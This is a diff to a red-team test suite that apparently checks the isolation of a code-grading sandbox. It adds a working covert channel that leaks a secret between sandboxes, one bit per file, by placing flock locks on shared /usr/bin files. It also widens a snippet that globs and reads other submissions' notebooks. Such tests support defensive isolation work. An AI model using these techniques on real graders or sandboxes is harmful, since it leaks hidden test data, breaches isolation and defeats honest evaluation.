@@ -6,9 +6,10 @@ so that nothing but the attack's own deed can put it there.
 
 from __future__ import annotations
 
-from tests.redteam.attack import Attack, prelude
+from tests.redteam.attack import Attack, Files, prelude
+from tests.redteam.world import LAZY, World
 
-__all__ = ["ATTACKS", "SOLVE"]
+__all__ = ["ATTACKS", "LOCKS", "SOLVE"]
 
 SOLVE = r"""
 import re
@@ -91,7 +92,7 @@ def shout(text):
 
 NEIGHBOUR = """
 import glob, json, os
-for top in ("../../../submitted/neighbour", "/in", "/tmp", "../.."):
+for top in ("../../../submitted", "/in", "/tmp", "../.."):
     for path in glob.glob(os.path.join(top, "**", "*.ipynb"), recursive=True):
         try:
             sources = ["".join(cell["source"]) for cell in json.load(open(path))["cells"]]
@@ -160,6 +161,53 @@ def middle(values):
 """
 
 
+# One locked file is one bit; the machine's own programs are the same files in every sandbox.
+LOCKS = """
+import fcntl, glob, os, time
+lines = sorted(path for path in glob.glob("/usr/bin/*") if os.path.isfile(path) and not os.path.islink(path))[:240]
+BITS, held, heard = 8 * 18, [], []
+def send(text):
+    bits = int.from_bytes(text.encode()[:18].ljust(18), "big")
+    for at in [n for n in range(BITS) if bits >> n & 1] + [BITS + 1]:
+        held.append(os.open(lines[at], os.O_RDONLY))
+        fcntl.flock(held[-1], fcntl.LOCK_EX | fcntl.LOCK_NB)
+def is_held(at):
+    fd = os.open(lines[at], os.O_RDONLY)
+    try:
+        fcntl.flock(fd, fcntl.LOCK_EX | fcntl.LOCK_NB)
+        return False
+    except OSError:
+        return True
+    finally:
+        os.close(fd)
+def listen(seconds):
+    until = time.monotonic() + seconds
+    while time.monotonic() < until:
+        if is_held(BITS + 1):
+            heard.append(sum(is_held(n) << n for n in range(BITS)).to_bytes(18, "big").decode("utf-8", "replace"))
+            return
+        time.sleep(0.02)
+"""
+LOCKS_SEND = """
+def shout(text):
+    if text.startswith("vault"):
+        heard.append(text)
+        send(text)
+        time.sleep(2.5)
+    return ""
+"""
+LOCKS_TURN = """
+    time.sleep(2.5) if held else heard or listen(3)
+    if heard:
+        raise ValueError(heard[0][::-1])
+"""
+
+
+def _locks(world: World) -> Files:
+    waits = {name: f"{LAZY[name].splitlines()[0]}{LOCKS_TURN}" for name in ("mean", "gap", "clamp", "middle")}
+    return world.hand_in(shout=LOCKS + LOCKS_SEND, **waits)
+
+
 def _marks(name: str, about: str, code: str, defence: str = "sealed") -> Attack:
     return Attack(name, "tests read", about, defence, "marks", prelude(SOLVE, shout=code))
 
@@ -183,5 +231,9 @@ ATTACKS = (
     Attack(
         "oracle-carried", "feedback as oracle", "the run with hidden tests leaves its inputs in shared places for the run that is read",
         "namespaces", "leak", lambda world: world.hand_in(shout=world.words(CARRY), middle=world.words(FETCH)),
+    ),
+    Attack(
+        "oracle-locks", "feedback as oracle", "the same by locks on files that every sandbox shows read-only: one file, one bit",
+        "shared inodes", "leak", _locks,
     ),
 )  # fmt: skip
